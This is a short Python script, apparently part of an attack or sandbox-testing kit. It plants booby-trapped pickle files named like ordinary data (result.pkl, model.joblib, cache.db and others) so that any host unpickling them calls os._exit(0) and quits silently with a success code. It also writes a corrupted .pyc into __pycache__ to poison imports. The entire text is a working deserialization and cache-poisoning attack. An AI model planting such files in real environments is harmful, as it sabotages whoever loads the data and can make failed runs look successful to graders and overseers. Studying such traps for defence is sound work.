"""Leave pickles and the like for a host that trusts them."""

import os
import pickle

from attack_kit import verdict


class Trap:
    def __reduce__(self):
        return (os._exit, (0,))


for name in ("result.pkl", "data.pickle", "model.joblib", "frame.npy", "cache.db", ".cache"):
    with open(name, "wb") as file:
        pickle.dump(Trap(), file)
os.makedirs("__pycache__", exist_ok=True)
with open("__pycache__/attack_kit.cpython-315.pyc", "wb") as file:
    file.write(b"\0" * 16 + b"garbage")
verdict()
